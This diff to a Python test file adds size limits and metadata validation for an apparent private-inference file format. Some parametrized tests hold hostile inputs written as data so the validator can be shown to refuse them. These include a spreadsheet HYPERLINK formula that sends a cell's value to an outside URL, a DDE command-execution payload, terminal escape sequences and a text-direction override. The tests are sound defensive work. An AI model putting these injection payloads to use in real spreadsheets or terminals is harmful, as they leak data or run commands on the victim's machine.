@@ -6,15 +6,17 @@ import os
 import stat
 import struct
 from collections.abc import Callable
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
+from wardround.decoding import PlanError
 from wardround.errors import LocalError, RemoteError
 from wardround.orders import Statistics
-from wardround.plan_sections import Column, Standardize, Target
+from wardround.plan_sections import Column, ColumnType, Standardize, Target
 from wardround.strategies.he.inference_file import (
     MAX_ROWS,
     AnswerHead,
@@ -30,7 +32,7 @@ from wardround.strategies.he.inference_file import (
 )
 from wardround.strategies.he.inference_plan import CANDIDATES, LINEAR
 
-QUERY = QueryHead(key_id="k" * 64, model="m" * 64, rows=3, first_row=2, inputs=2)
+QUERY = QueryHead(key_id="k" * 64, model="m" * 64, encoding="e" * 64, rows=3, first_row=2, inputs=2)
 INFO = ModelInfo(
     name="hearts",
     model="m" * 64,
@@ -51,6 +53,9 @@ HEADS = (
     QUERY,
     AnswerHead(key_id="k" * 64, model="m" * 64, query="q" * 64, rows=3, outputs=2),
 )
+
+
+REST = b'"kind": "query", "key_id": "k", "model": "m", "encoding": "e", "first_row": 2, "inputs": 2'
 
 
 def framed(header: bytes, payload: bytes = b"") -> bytes:
@@ -75,7 +80,8 @@ def test_the_file_is_as_its_docstring_says(tmp_path: Path) -> None:
     length, size = struct.unpack_from("<IQ", data, 22)
     header = json.loads(data[66 : 66 + length])
     assert header == {
-        "kind": "query", "key_id": "k" * 64, "model": "m" * 64, "rows": 3, "first_row": 2, "inputs": 2,
+        "kind": "query", "key_id": "k" * 64, "model": "m" * 64, "encoding": "e" * 64, "rows": 3, "first_row": 2,
+        "inputs": 2,
     }  # fmt: skip
     assert size == 3 and data == framed(data[66 : 66 + length], b"abc")
 
@@ -132,10 +138,10 @@ def test_cut_damaged_and_foreign_files_are_refused(
         (b"\xff", "expected a header"),
         (b'{"kind": "answer"}', "expected a file of the kind query, got one of answer"),
         (b'{"kind": "query"}', "reads .key_id: expected a value"),
-        (b'{"kind": "query", "key_id": "k", "model": "m", "rows": 0, "first_row": 2, "inputs": 2}', "at least 1"),
-        (b'{"kind": "query", "key_id": "k", "model": "m", "rows": 65537, "first_row": 2, "inputs": 2}', "at most"),
-        (b'{"kind": "query", "key_id": "k", "model": "m", "rows": 1.5, "first_row": 2, "inputs": 2}', "rows"),
-        (b'{"kind": "query", "key_id": "k", "model": "m", "rows": 1, "first_row": 2, "inputs": 2, "x": 1}', "x"),
+        (b'{%b, "rows": 0}' % REST, "at least 1"),
+        (b'{%b, "rows": 65537}' % REST, "at most"),
+        (b'{%b, "rows": 1.5}' % REST, "rows"),
+        (b'{%b, "rows": 1, "x": 1}' % REST, "x"),
         (b"[" * 100_000, "expected a header"),
     ],
 )
@@ -180,4 +186,73 @@ def test_other_parts_are_refused(change: bytes) -> None:
 
 
 def test_the_most_rows_fit_a_query() -> None:
-    assert QueryHead(key_id="k", model="m", rows=MAX_ROWS, first_row=0, inputs=1).rows == 65536
+    assert QueryHead(key_id="k", model="m", encoding="e", rows=MAX_ROWS, first_row=0, inputs=1).rows == 65536
+
+
+@pytest.mark.parametrize(
+    ("kind", "most"),
+    [(ModelInfo, 0), (KeyHead, 1 << 20), (ContextHead, 1 << 22), (QueryHead, 5000), (AnswerHead, 5000)],
+)
+def test_files_that_are_too_large_are_not_read(tmp_path: Path, kind: type[QueryHead], most: int) -> None:
+    """A file of 8 GiB costs its sender nothing (it has holes), and its reader the memory."""
+    most += 66 + (1 << 21)
+    with (tmp_path / "large").open("wb") as file:
+        file.truncate(most + 1)
+    with pytest.raises(RemoteError, match=f"large: expected at most {most} bytes, got {most + 1}"):
+        read_file(tmp_path / "large", kind, 5000 if kind in (QueryHead, AnswerHead) else 1 << 33)
+    os.truncate(tmp_path / "large", most)
+    with pytest.raises(RemoteError, match="large: expected a file of private inference"):
+        read_file(tmp_path / "large", kind, 5000 if kind in (QueryHead, AnswerHead) else 1 << 33)
+
+
+WIDE = Column(name="wide", type=ColumnType.CATEGORY, categories=tuple(map(str, range(1 << 14))))
+
+
+@pytest.mark.parametrize(
+    ("change", "words"),
+    [
+        ({"squares": 2}, "squares: expected at most 1"),
+        ({"error": 0.002}, "error: expected at most 0.001"),
+        ({"columns": ()}, "columns: expected 1 to 16384 inputs, got 0"),
+        ({"columns": (*INFO.columns, WIDE)}, "columns: expected 1 to 16384 inputs, got 16385"),
+        ({"columns": (Column(name="x"),)}, r"columns\[0\].range: expected a range for every number"),
+        (
+            {"columns": (Column(name="x", range=(0.0, 1.0), unit="\x1b[2J"),)},
+            r"columns\[0\].unit: expected text without",
+        ),
+        ({"target": Target(name="x", range=(-1e308, 1e308))}, "target.range: expected a width"),
+        ({"target": Target(name="x", range=(0.0, 1e-300))}, "target.range: expected a width"),
+    ],
+)
+def test_a_models_facts_that_could_harm_the_asker_are_refused(change: dict[str, object], words: str) -> None:
+    with pytest.raises(PlanError, match=words):
+        replace(INFO, **change)  # type: ignore[arg-type]
+
+
+@pytest.mark.parametrize(
+    "label",
+    ['=HYPERLINK("http://example.org/?"&B2)', "@SUM(A1)", "+cmd|' /C calc'!A0", "-1+f(2)", "a\x1b[2J", "a\u202eb"],
+)
+def test_no_class_is_a_formula_or_controls_a_terminal(label: str) -> None:
+    for target in (Target(name="ill", classes=("no", label)), Target(name=label, classes=("no", "yes"))):
+        with pytest.raises(PlanError, match="target: expected text without control characters that no spreadsheet"):
+            replace(INFO, target=target)
+
+
+@pytest.mark.parametrize("label", ["+", "-", "+1", "-1", "<= 5", "né à l'hôpital", "(a|b)!"])
+def test_usual_classes_are_taken(label: str) -> None:
+    assert replace(INFO, target=Target(name="ill", classes=("no", label))).outputs == 1
+
+
+def test_an_encoding_is_all_that_rows_and_answers_depend_on(tmp_path: Path) -> None:
+    write_file(tmp_path / "info", INFO)
+    assert read_file(tmp_path / "info", ModelInfo)[0].encoding == INFO.encoding
+    changes: tuple[dict[str, object], ...] = (
+        {"columns": (replace(INFO.columns[0], range=(30.0, 251.0)),)},
+        {"target": replace(INFO.target, classes=("yes", "perhaps", "no"))},
+        {"standardize": Standardize.RANGE},
+        {"statistics": Statistics(mean=(120.0,), std=(20.000001,))},
+    )
+    others = [replace(INFO, **change).encoding for change in changes]  # type: ignore[arg-type]
+    assert len({INFO.encoding, *others}) == 5
+    assert replace(INFO, error=2e-6, output=13.0, name="other").encoding == INFO.encoding
